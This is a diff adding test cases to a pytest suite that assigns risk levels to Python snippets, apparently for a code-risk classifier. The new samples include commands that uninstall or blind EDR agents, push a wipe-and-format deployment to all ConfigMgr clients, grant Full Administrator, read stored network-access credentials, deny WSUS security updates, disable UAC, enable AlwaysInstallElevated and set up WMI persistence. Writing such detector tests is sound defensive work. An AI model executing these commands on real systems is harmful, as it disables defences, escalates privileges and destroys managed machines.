@@ -15708,6 +15708,131 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             'subprocess.run(f\'psql -h db.internal -d shop -c "{sql}"\', shell=True)\n',
             L,
         ),
+        # round 91: EDR consoles, ConfigMgr, WSUS, DSC and Chocolatey, Windows hardening switched off
+        (
+            'import subprocess\n'
+            'out = subprocess.run(["sudo", "/opt/CrowdStrike/falconctl", "-g", "--aid", "--cid"], capture_out'
+            'put=True, text=True).stdout\n',
+            M,
+        ),
+        (
+            'import os, requests\n'
+            'API = "https://api.securitycenter.microsoft.com/api"\n'
+            'H = {"Authorization": "Bearer " + os.environ["T"]}\n'
+            'for m in requests.get(f"{API}/machines", headers=H).json()["value"]:\n'
+            '    requests.post(f"{API}/machines/{m[\'id\']}/StopAndQuarantineFile", headers=H, json={"Sha1": "x'
+            '"})\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            'API = "https://api.securitycenter.microsoft.com/api"\n'
+            'H = {"Authorization": "Bearer " + os.environ["T"]}\n'
+            'requests.post(f"{API}/machines/abc123/isolate", headers=H, json={"Comment": "IR-1042", "Isolatio'
+            'nType": "Selective"})\n',
+            L,
+        ),
+        (
+            'import requests\n'
+            'body = {"filter": {"tenant": True}, "data": {"type": "path", "osType": "windows", "value": "C:'
+            '\\\\", "pathExclusionType": "subfolders", "mode": "disable_all_monitors"}}\n'
+            'requests.post(S1 + "/exclusions", json=body)\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'mgmt = "https://x.sentinelone.net"\n'
+            'for acc in requests.get(f"{mgmt}/web/api/v2.1/accounts").json()["data"]:\n'
+            '    requests.post(f"{mgmt}/web/api/v2.1/agents/actions/uninstall", json={"filter": {"accountIds"'
+            ': [acc["id"]]}})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'advert = {"CollectionID": "SMS00001", "PackageID": "PS100042", "ProgramName": "*"}\n'
+            'flt = "Name eq \'Win11 Bare Metal (Wipe + Format)\'"\n'
+            'ts = requests.get(f"{SITE}/SMS_TaskSequencePackage?$filter={flt}").json()\n'
+            'requests.post(f"{SITE}/SMS_Advertisement", json=advert)\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'body = {"LogonName": "CORP\\\\svc-reporting", "RoleNames": ["Full Administrator"], "CategoryNames"'
+            ': ["All"]}\n'
+            'requests.post("https://cm01/AdminService/wmi/SMS_Admin", json=body)\n',
+            H,
+        ),
+        (
+            'import wmi\n'
+            'c = wmi.WMI(namespace=r"root\\ccm\\policy\\Machine\\ActualConfig")\n'
+            'for a in c.query("SELECT * FROM CCM_NetworkAccessAccount"):\n'
+            '    print(a.NetworkAccessUsername)\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'ps = r"""\n'
+            '$w = Get-WsusServer -Name wsus01 -PortNumber 8531 -UseSsl\n'
+            '$w | Get-WsusUpdate -Classification Security -Approval AnyExceptDeclined | Deny-WsusUpdate\n'
+            '"""\n'
+            'subprocess.run(["powershell.exe", "-Command", ps])\n',
+            H,
+        ),
+        (
+            'ps = r"""\n'
+            "Set-ItemProperty $k -Name WUServer -Value 'http://198.51.100.23:8530'\n"
+            '"""\n'
+            'sess.run_ps(ps)\n',
+            H,
+        ),
+        (
+            'ps = r"""\n'
+            "Set-ItemProperty $k -Name WUServer -Value 'https://wsus01.corp.example.com:8531'\n"
+            '"""\n'
+            'sess.run_ps(ps)\n',
+            S,
+        ),
+        (
+            'import subprocess\n'
+            'for step in ["choco source add -n=mirror -s=http://198.51.100.14/nuget/ --priority=1", "choco fe'
+            'ature enable -n=allowEmptyChecksums"]:\n'
+            '    subprocess.run(["cmd", "/c", step])\n',
+            H,
+        ),
+        (
+            'script = r"""\n'
+            "$p = 'HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System'\n"
+            'Set-ItemProperty $p -Name EnableLUA -Value 0 -Type DWord\n'
+            '"""\n'
+            'client.execute_ps(script)\n',
+            H,
+        ),
+        (
+            'cmds = [["reg", "add", r"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\Installer", "/v", "AlwaysInsta'
+            'llElevated", "/t", "REG_DWORD", "/d", "1", "/f"]]\n'
+            'for c in cmds:\n'
+            '    s.run_cmd(c[0], c[1:])\n',
+            H,
+        ),
+        (
+            'parts = "Set-WmiInstance -Namespace root\\\\subscription -Class __EventFilter -Arguments @{Name=\'x'
+            '\'}"\n'
+            'sess.run_ps(parts)\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["icacls", r"C:\\BuildAgent\\secrets\\codesign.pfx", "/inheritance:r"], check=True)\n'
+            '',
+            L,
+        ),
+        (
+            'import subprocess\n'
+            'ps = "Add-PSSnapin Citrix*; Get-BrokerMachine -MaxRecordCount 100000 | Remove-BrokerMachine -For'
+            'ce"\n'
+            'subprocess.run(["powershell.exe", "-NoProfile", "-Command", ps])\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
